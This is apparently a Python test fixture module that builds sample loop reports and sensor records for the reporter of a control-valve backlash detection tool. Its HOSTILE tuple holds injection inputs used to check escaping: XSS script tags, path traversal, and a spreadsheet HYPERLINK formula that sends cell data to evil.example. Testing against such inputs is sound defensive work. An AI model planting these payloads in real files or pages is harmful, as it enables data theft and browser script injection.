"""Hand-made reports for the reporter's tests: no scan is run, every field is known."""

from __future__ import annotations

from math import nan

import numpy as np

from backlash_cli.record import LoopSettings, Note, Record, record_from_arrays
from backlash_cli.results import Cluster, Compensator, Confirmation, Estimate, LoopReport, ScanResult, Verdict

START = 1773734400.0  # 2026-03-17 08:00 UTC
SETTINGS = LoopSettings(K=1.1, Ti=12.0, Kp=1.1, source={"K": "metadata", "Ti": "metadata", "Kp": "default"})
HOSTILE = (
    "../../etc/x",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "FIC\n101",
    "A" * 10_000,
    "Druckregler Ö1 (Süd)",
    "\x1b[31mred\x1b[0m\x07",
    "a;=cmd()\t|b",
    "</script><img src=x onerror=alert(1)>",
    "\u202egnp.exe",
    "lone \udc80 surrogate",
    "CON",
)


def report(
    loop: str = "FIC101", d: float | None = 0.03, verdict: Verdict = Verdict.BACKLASH, **more: object
) -> LoopReport:
    """A report with two half periods, one used and one refused; d=None: no cluster."""
    values: dict[str, object] = {
        "reasons": (Note("estimates_agree", "8 of 10 estimates agree", {"n": 8}),),
        "confidence": 0.9,
        "start": START,
        "end": START + 3600.0,
        "samples": 3601,
        "interval_s": 1.0,
        "settings": SETTINGS,
        "half_periods": 20,
        "long_half_periods": 12,
        "detections": 10,
        "detection_rate": 0.5,
        "detections_per_hour": 10.0,
        "rejected": {"too_short": 8, "shape": 2},
        "estimates": (
            Estimate(START + 600, START + 700, 100.0, 0.004, 0.006, d or 0.0, 1, True),
            Estimate(START + 800, START + 820.5, 20.5, nan, 0.004, nan, -1, False, "too_short"),
        ),
        "cluster": None if d is None else Cluster(d, (0.9 * d, 1.1 * d), 0.1, 8, 0.8, 0.004),
        "confirmation": d and Confirmation(d, (0.8 * d, 1.2 * d), 0.4, 123.4, profile=((0.0, 0.0), (d, 9.0))),
        "compensator": Compensator(0.024, "error-sign (9)", "lower end of the interval") if d else None,
        "warnings": (Note("default_kp", "Kp is not given; 1.5 is used"),),
    }
    return LoopReport(loop, verdict, **{**values, **more})  # type: ignore[arg-type]


def result(*loops: LoopReport, **more: object) -> ScanResult:
    """A run over the given loops, by default one of each verdict."""
    if not loops:
        loops = (
            report("small", 0.01),
            report("LARGE", 0.05),
            report("maybe", 0.02, Verdict.SUSPECTED),
            report("fine", None, Verdict.NO_BACKLASH),
            report("waves", None, Verdict.OSCILLATING),
            report("short", None, Verdict.INSUFFICIENT_DATA),
            report("odd", None, Verdict.CANNOT_TELL),
            LoopReport("broken", Verdict.ERROR, (Note("missing_pv", "there is no PV column"),)),
        )
    return ScanResult(loops, ("plant.csv",), **more)  # type: ignore[arg-type]


def record(loop: str = "FIC101", samples: int = 3601) -> Record:
    """A record with a gap, a sample that is not known, and an output."""
    t = np.arange(samples, dtype=np.float64)
    pv = 0.5 + 0.01 * np.sin(t / 30)
    pv[samples // 2] = nan
    op = 0.4 + 0.02 * np.cos(t / 30)
    made = record_from_arrays(0.5, pv, op, interval=1.0, loop=loop, start=START, settings=SETTINGS)
    made.index[2 * samples // 3 :] += 500
    return made
